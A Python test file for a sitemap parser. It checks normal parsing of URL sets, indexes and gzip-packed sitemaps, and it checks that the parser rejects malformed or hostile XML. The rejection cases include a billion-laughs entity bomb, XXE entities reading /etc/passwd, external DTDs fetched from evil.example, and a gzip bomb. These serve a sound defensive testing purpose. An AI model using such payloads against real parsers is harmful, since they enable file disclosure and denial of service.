import gzip

import pytest
from hypothesis import given
from hypothesis import strategies as st

from ingest.error import OwnwordsError
from ingest.web.sitemap import MOST_ADDRESSES, Sitemap, read_sitemap

SPACE = "http://www.sitemaps.org/schemas/sitemap/0.9"
GREEN = "https://tea.example/green"


def urlset(*locs: str, more: str = "") -> bytes:
    urls = "".join(f"<url><loc>{loc}</loc>{more}</url>" for loc in locs)
    return f'<?xml version="1.0"?><urlset xmlns="{SPACE}">{urls}</urlset>'.encode()


def test_a_sitemap_lists_pages() -> None:
    found = read_sitemap("it", urlset(GREEN, "\n https://tea.example/black?a=1&amp;b=2 \n"))
    assert found == Sitemap((GREEN, "https://tea.example/black?a=1&b=2"), is_index=False)


def test_an_index_lists_sitemaps() -> None:
    data = f"<sitemapindex><sitemap><loc>{GREEN}</loc></sitemap></sitemapindex>".encode()
    assert read_sitemap("it", data) == Sitemap((GREEN,), is_index=True)


def test_a_packed_sitemap_is_unpacked() -> None:
    assert read_sitemap("it", gzip.compress(urlset(GREEN))).addresses == (GREEN,)


def test_an_address_may_stand_in_marked_text() -> None:
    assert read_sitemap("it", urlset(f"<![CDATA[{GREEN}]]>")).addresses == (GREEN,)


def test_images_are_no_pages() -> None:
    image = (
        '<i:image xmlns:i="http://image.example"><i:loc>https://tea.example/x.png</i:loc></i:image>'
    )
    assert read_sitemap("it", urlset(GREEN, more=image)).addresses == (GREEN,)


BILLION = (
    b'<!DOCTYPE t [<!ENTITY a "tea"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><urlset><url><loc>&c;</loc></url></urlset>'
)


@pytest.mark.parametrize(
    "data",
    [
        BILLION,
        b'<!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">]><urlset><loc>&x;</loc></urlset>',
        b'<!DOCTYPE t SYSTEM "https://evil.example/t.dtd"><urlset/>',
        b'<!DOCTYPE t [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]><urlset/>',
        b"<rss><channel><link>https://tea.example/</link></channel></rss>",
        b"<html><body>Tea</body></html>",
        b"",
        b"tea",
        b"<urlset>",
        b"<urlset><loc>&nbsp;</loc></urlset>",
        b'<?xml version="1.0" encoding="tea"?><urlset/>',
        b'<?xml version="1.0" encoding="hex"?><urlset/>',
        b"<urlset>\x00</urlset>",
        gzip.compress(b"\0" * 30_000_000),
        gzip.compress(urlset(GREEN))[:-9],
        gzip.compress(gzip.compress(urlset(GREEN))),
        b"\x1f\x8bTea",
    ],
    ids=range(17),
)
def test_what_is_no_sound_sitemap_is_a_clear_error(data: bytes) -> None:
    with pytest.raises(OwnwordsError, match=r"^it is"):
        read_sitemap("it", data)


def test_a_sitemap_has_at_most_so_many_addresses() -> None:
    assert len(read_sitemap("it", urlset(*[GREEN] * MOST_ADDRESSES)).addresses) == MOST_ADDRESSES
    with pytest.raises(OwnwordsError, match="above 50,000"):
        read_sitemap("it", urlset(*[GREEN] * (MOST_ADDRESSES + 1)))


def test_elements_may_lie_in_each_other_however_deep() -> None:
    deep = b"<urlset>" + b"<a>" * 200_000 + b"</a>" * 200_000 + b"</urlset>"
    assert read_sitemap("it", deep).addresses == ()


@given(st.binary(max_size=100), st.booleans())
def test_any_bytes_are_a_sitemap_or_a_clear_error(data: bytes, packed: bool) -> None:
    data = b"<urlset><url><loc>" + data + b"</loc></url></urlset>"
    try:
        read_sitemap("it", gzip.compress(data) if packed else data)
    except OwnwordsError:
        return
